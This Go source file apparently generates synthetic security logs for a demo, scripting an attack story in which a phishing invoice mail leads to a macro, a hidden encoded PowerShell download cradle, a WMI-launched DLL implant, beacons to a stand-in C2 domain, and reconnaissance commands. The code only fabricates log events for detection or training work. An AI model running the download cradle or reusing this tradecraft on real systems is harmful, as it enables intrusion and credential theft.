package demo

import (
	"fmt"
	"slices"
	"strings"
	"time"
)

// intrusion is stories a–c: one attacker's way from a phishing mail to a
// foothold on the file server.
type intrusion struct {
	w        *world
	r        *rng
	v        *User    // the employee who opens the attachment
	host     *Host    // their desktop
	dayA     *session // the workday the mail is opened
	dayB     date     // the day of credential theft and lateral movement
	helpdesk *User    // the IT admin whose credentials get stolen
	fs       *Host
	implant  proc
	sd       *storyData

	mailAt, dumpAt, moveAt time.Time
	cradle, minidump       proc
}

// pickVictim finds a London desktop user whose workday fits the story: in
// the office by 09:30 on a day about three days before the end, and a later
// day for the rest of the intrusion.
func (w *world) pickVictim(r *rng) (*User, *session, date) {
	users := slices.Clone(w.org.Users)
	r.Shuffle(len(users), func(i, j int) { users[i], users[j] = users[j], users[i] })
	tz := w.org.Sites[0].TZ
	for _, relax := range []bool{false, true} {
		for _, u := range users {
			if !relax && (u.Site != w.org.Sites[0] || !u.Workstation.Desktop) {
				continue
			}
			if relax && !u.Workstation.Desktop {
				continue
			}
			for _, back := range []int{3, 4, 2, 5} {
				d := dateOf(w.cfg.End.Add(-time.Duration(back) * 24 * time.Hour).In(u.Site.TZ))
				s := w.cal.workday(u, d)
				if s == nil || s.Remote || s.Start.After(d.at(9.5, u.Site.TZ)) || s.LunchStart.Before(d.at(11, u.Site.TZ)) {
					continue
				}
				for next := d.add(1); next.at(16, tz).Before(w.cfg.End.Add(-6 * time.Hour)); next = next.add(1) {
					if wd := next.weekday(); wd != time.Saturday && wd != time.Sunday {
						return u, s, next
					}
				}
			}
		}
	}
	panic("demo: no employee fits the intrusion story") // cannot happen with 200+ employees
}

func (w *world) buildIntrusion(sd *storyData) *User {
	r := newRNG(w.seed, "story-intrusion")
	x := &intrusion{w: w, r: r, sd: sd, fs: w.org.Host("FS01")}
	x.v, x.dayA, x.dayB = w.pickVictim(r)
	x.host = x.v.Workstation
	for _, u := range w.org.Users {
		if u.AdminSam != "" && strings.Contains(u.Title, "Service Desk") {
			x.helpdesk = u
			break
		}
	}
	if x.helpdesk == nil {
		for _, u := range w.org.Users {
			if u.AdminSam != "" {
				x.helpdesk = u
				break
			}
		}
	}
	x.helpdeskVisit()
	x.phish()
	x.credentialDump()
	x.lateralMovement()
	x.truthAndAlerts()
	return x.v
}

// at is a local time on a day at the victim's office.
func (x *intrusion) at(d date, h float64) time.Time { return d.at(h, x.v.Site.TZ).UTC() }

// helpdeskVisit: the day before, a service desk admin logs on to the
// victim's desktop with the admin account to install software, leaving the
// credentials in LSASS.
func (x *intrusion) helpdeskVisit() {
	w, o := x.w, x.w.org
	d := x.dayA.Day.add(-1)
	t := x.at(d, 17.9)
	if s := w.cal.workday(x.v, d); s != nil && s.End.After(t.Add(-10*time.Minute)) {
		t = s.End.Add(25 * time.Minute)
	}
	id := o.adminID(x.helpdesk, 0x7a3c1f0+uint64(x.r.IntN(0xffff)))
	x.sd.logons = append(x.sd.logons, logonEvent{t: t, host: x.host, id: id, typ: ltInteractive, pkg: "Kerberos", process: "User32 ",
		admin: true, end: t.Add(19 * time.Minute), story: storyLSASS})
	explorer := proc{img: w.img(pExplorer), cmd: `C:\WINDOWS\Explorer.EXE`, pid: pid4(x.r, 0x1400, 0x2000), start: t.Add(20 * time.Second), id: id, il: ilHigh}
	x.sd.procs = append(x.sd.procs,
		procEvent{host: x.host, p: explorer, parent: proc{img: w.img(pUserinit), pid: pid4(x.r, 0x1000, 0x1400), id: id}, gpName: "winlogon.exe", end: t.Add(19 * time.Minute), story: storyLSASS},
		procEvent{host: x.host, p: proc{img: w.img(`\\FS01\Software\Adobe\AcroRdrDCx64.exe`), cmd: `"\\FS01\Software\Adobe\AcroRdrDCx64.exe" /sAll /rs`, pid: pid4(x.r, 0x3000, 0x4000), start: t.Add(3 * time.Minute), id: id, il: ilHigh},
			parent: explorer, gpName: "userinit.exe", end: t.Add(9 * time.Minute), story: storyLSASS})
}

// phish: the look-alike invoice mail, the macro, the encoded download
// cradle, the implant and its beacon.
func (x *intrusion) phish() {
	w, o, r, v := x.w, x.w.org, x.r, x.v
	d := x.dayA.Day
	sent := x.at(d, 9.2)
	subject := "Overdue invoice INV-20931 - payment required"
	recipients := []*User{v}
	for _, u := range o.Users {
		if u.Department == v.Department && u != v && len(recipients) < 4 {
			recipients = append(recipients, u)
		}
	}
	for i, u := range recipients {
		x.sd.email = append(x.sd.email, emailEvent{t: sent.Add(time.Duration(i) * 1300 * time.Millisecond), from: "accounts@" + phishDomain,
			fromName: "Tailspin Freight Accounts", fromIP: phishIP.String(), to: u, subject: subject, direction: "Inbound",
			delivery: "Delivered", location: "Inbox/folder", auth: `{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}`,
			attachments: 1, messageID: "<20931.7741.INV@" + phishDomain + ">", story: storyPhish})
	}
	sp := w.sessionProcs(x.dayA)
	home := `C:\Users\` + v.Sam
	opened := x.at(d, 10.23)
	cache := home + `\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\` + "Q7RZ3K1M"
	x.sd.files = append(x.sd.files, fileEvent{t: opened.Add(-2 * time.Second), host: x.host, action: "FileCreated", path: cache + `\INV-20931.docm`,
		proc: &sp.outlook, parent: "explorer.exe", size: 187_392, story: storyPhish})
	word := proc{img: w.img(pWinword), cmd: fmt.Sprintf(`"%s" /n "%s\INV-20931.docm" /o ""`, pWinword, cache), pid: pid4(r, 0x3000, 0x6000), start: opened, id: x.dayA.ident, il: ilMedium}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: word, parent: sp.outlook, gpName: "explorer.exe", end: opened.Add(6 * time.Minute), story: storyPhish})
	cradle := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('http://%s/a/inv.ps1')", c2Domain)
	ps := proc{img: w.img(pPowerShell), cmd: "powershell.exe -nop -w hidden -enc " + psEncode(cradle), pid: pid4(r, 0x6000, 0x9000),
		start: opened.Add(38 * time.Second), id: x.dayA.ident, il: ilMedium}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: ps, parent: word, gpName: "OUTLOOK.EXE", end: ps.start.Add(31 * time.Second), story: storyPhish})
	x.mailAt, x.cradle = sent, ps
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: proc{img: w.img(pConhost), cmd: `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, pid: pid4(r, 0x6000, 0x9000), start: ps.start.Add(12 * time.Millisecond), id: x.dayA.ident, il: ilMedium},
		parent: ps, gpName: "WINWORD.EXE", end: ps.start.Add(31 * time.Second), story: storyPhish})
	x.sd.flows = append(x.sd.flows, flowEvent{t: ps.start.Add(2 * time.Second), src: x.host, srcIP: x.host.IP, srcPort: 51744, dstIP: c2IP, dstPort: 80,
		domain: c2Domain, proc: &ps, user: x.dayA.ident, sent: 412, recv: 48_211, app: "web-browsing", fw: w.firewallOf(v.Site), natIP: v.Site.Egress,
		lookup: true, dur: 900 * time.Millisecond, story: storyPhish})
	dll := home + `\AppData\Roaming\Microsoft\Crypto\msvcupd.dll`
	x.sd.files = append(x.sd.files, fileEvent{t: ps.start.Add(5 * time.Second), host: x.host, action: "FileCreated", path: dll, proc: &ps, parent: "WINWORD.EXE",
		origin: "http://" + c2Domain + "/a/msvcupd.dll", originIP: c2IP.String(), size: 311_808, story: storyPhish})
	// The cradle starts the implant through WMI, so it runs outside the
	// Word process tree and survives the user logging off.
	wmi := proc{img: w.img(pWmiPrvSE), cmd: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, pid: pid4(r, 0x9000, 0xa000), start: ps.start.Add(7 * time.Second), id: x.host.idNetwork, il: ilSystem}
	_, _, dcom, _, _ := w.hostProcs(x.host)
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: wmi, parent: dcom, gpName: "services.exe", end: wmi.start.Add(4 * time.Minute), story: storyPhish})
	x.implant = proc{img: w.img(pRundll32), cmd: fmt.Sprintf(`"C:\Windows\System32\rundll32.exe" "%s",DllRegisterServer`, dll), pid: pid4(r, 0xa000, 0xb000),
		start: wmi.start.Add(900 * time.Millisecond), id: x.dayA.ident.withLogon(x.dayA.LogonID), il: ilMedium}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: x.implant, parent: wmi, gpName: "svchost.exe", story: storyPhish})
	x.beacon(x.implant.start.Add(40 * time.Second))
	// That afternoon the operator looks around.
	t := x.at(d, 15.45)
	x.implantCmd(t, ilMedium, "whoami.exe", "whoami /all", storyPhish)
	x.implantCmd(t.Add(40*time.Second), ilMedium, "net.exe", "net localgroup administrators", storyPhish)
	x.implantCmd(t.Add(95*time.Second), ilMedium, "nltest.exe", "nltest /dclist:"+o.ADDomain, storyPhish)
}

// beacon: the implant checks in with its server every 60 seconds (give or
// take a few hundred milliseconds, and a late retry now and then) until the
// end of the data; the name is looked up again when its 5-minute TTL runs out.
func (x *intrusion) beacon(from time.Time) {
	w, r := x.w, newRNG(x.w.seed, "beacon")
	from = from.Truncate(time.Second).Add(200 * time.Millisecond)
	for k := 0; ; k++ {
		t := from.Add(time.Duration(k)*time.Minute + r.durIn(0, 350*time.Millisecond))
		if r.chance(0.06) {
			t = t.Add(r.durIn(time.Second, 3*time.Second))
		}
		if !t.Before(w.cfg.End) {
			return
		}
		f := flowEvent{t: t, src: x.host, srcIP: x.host.IP, srcPort: 49700 + k%15000, dstIP: c2IP, dstPort: 443, domain: c2Domain,
			proc: &x.implant, user: x.implant.id, sent: int64(r.between(380, 920)), recv: int64(r.between(160, 640)), app: "ssl",
			fw: w.firewallOf(x.v.Site), natIP: x.v.Site.Egress, lookup: k%5 == 0, dur: 180 * time.Millisecond, story: storyPhish}
		if r.chance(0.03) { // tasking: the server sends work back
			f.recv = int64(r.between(20_000, 400_000))
		}
		x.sd.flows = append(x.sd.flows, f)
	}
}

// implantCmd runs a command through cmd.exe from the implant.
func (x *intrusion) implantCmd(t time.Time, il integrity, exe, cmdline, story string) proc {
	w, r := x.w, x.r
	cmd := proc{img: w.img(pCmd), cmd: `C:\Windows\system32\cmd.exe /c ` + cmdline, pid: pid4(r, 0xb000, 0xd000), start: t, id: x.implant.id, il: il}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: cmd, parent: x.implant, gpName: "WmiPrvSE.exe", end: t.Add(3 * time.Second), story: story})
	path := pSystem32 + exe
	if strings.Contains(exe, `\`) {
		path = exe
	}
	child := proc{img: w.img(path), cmd: cmdline, pid: pid4(r, 0xd000, 0xf000), start: t.Add(60 * time.Millisecond), id: x.implant.id, il: il}
	x.sd.procs = append(x.sd.procs, procEvent{host: x.host, p: child, parent: cmd, gpName: "rundll32.exe", end: t.Add(2 * time.Second), story: story})
	return child
}
